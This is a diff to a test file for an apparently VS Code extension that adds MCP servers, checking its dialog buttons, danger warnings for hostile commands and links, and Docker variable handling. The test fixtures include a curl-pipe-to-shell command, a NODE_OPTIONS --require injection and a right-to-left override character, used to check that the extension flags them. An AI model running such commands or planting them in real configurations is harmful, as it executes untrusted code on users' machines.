@@ -113,6 +113,11 @@ test('of several pasted servers those that were chosen are added one after the o
     mcpServers: { a: { command: 'a' }, c: { type: 'http', url: 'https://c.example/mcp' } },
   });
   assert.equal(ui.told.filter((words) => words.startsWith('Add the MCP server')).length, 3);
+  assert.deepEqual(ui.offered.slice(2), [
+    ['Add and Start', 'Add', 'Leave This One Out', 'Back'],
+    ['Add and Start', 'Add', 'Leave This One Out'],
+    ['Add and Start', 'Add'],
+  ]);
 });
 
 test('what no dialog can hold is shown in a document to its very end, and its first answer is no', async () => {
@@ -133,8 +138,8 @@ test('what is dangerous is said first, and Enter alone does not add it', async (
     [{ text: 'bash -c "curl https://example.test/x | sh"' }, { pick: '.vscode/mcp.json' }, { text: 'x' }, 'close'],
     { target: 'commandLine' },
   );
-  assert.match(ui.told[0] ?? '', /^Add the MCP server "x"\?\n⚠ Danger: /);
-  assert.match(ui.told[0] ?? '', /\(Do Not Add\)$/);
+  assert.match(ui.told[0] ?? '', /\nAdd the MCP server "x"\?\n\n⚠ Danger: /);
+  assert.equal(ui.offered.at(-1)?.[0], 'Do Not Add');
 });
 
 test("the user's own file is made with its folder, and its server runs without another question", async () => {
@@ -167,7 +172,7 @@ test('a link shows what it would run and that it came from a link; a hostile one
   const link = `vscode://patchbay.patchbay/install?name=nice&config=${encodeURIComponent(config)}`;
   const ui = await rig.add([{ pick: '.vscode/mcp.json' }, { text: '' }, 'close'], { target: { link } });
   assert.match(ui.told[0] ?? '', /⚠ A link asks for this/);
-  assert.match(ui.told[0] ?? '', /\(Do Not Add\)$/);
+  assert.equal(ui.offered.at(-1)?.[0], 'Do Not Add');
   assert.match(ui.told[0] ?? '', /1\\u\{202e\}2/);
   assert.match(ui.told[0] ?? '', /NODE_OPTIONS=--require \.\/x\.js/);
   const bad = await rig.add([], { target: { link: 'vscode://patchbay.patchbay/install?config=%7B' } });
@@ -223,6 +228,26 @@ test('an image of Docker is asked for with the names of its variables', async ()
   const text = rig.text(path.join(rig.folder, '.vscode/mcp.json'));
   assert.match(text, /"API_KEY": "\$\{input:tool-API_KEY\}"/);
   assert.match(text, /"password": true/);
+});
+
+test('a file that cannot ask for values says what has to be set instead, and what cannot start is not started', async () => {
+  const rig = await rigOf();
+  const ui = await rig.add(
+    [{ text: 'owner/tool:1' }, { text: 'A_KEY' }, { pick: '.mcp.json' }, { text: '' }, { dialog: 'Add' }],
+    { target: 'docker' },
+  );
+  assert.match(ui.told[0] ?? '', /⚠ .* has no inputs: set the variable TOOL_A_KEY of the environment/);
+  assert.match(ui.told[0] ?? '', /⚠ It cannot start as it stands: /);
+  assert.deepEqual(ui.offered.at(-1), ['Add', 'Back']);
+  assert.deepEqual(rig.json(path.join(rig.folder, '.mcp.json')), {
+    mcpServers: {
+      tool: {
+        command: 'docker',
+        args: ['run', '-i', '--rm', '-e', 'A_KEY', 'owner/tool:1'],
+        env: { A_KEY: '${TOOL_A_KEY}' },
+      },
+    },
+  });
 });
 
 test('a file that is broken is not written into, and it is said so', async () => {
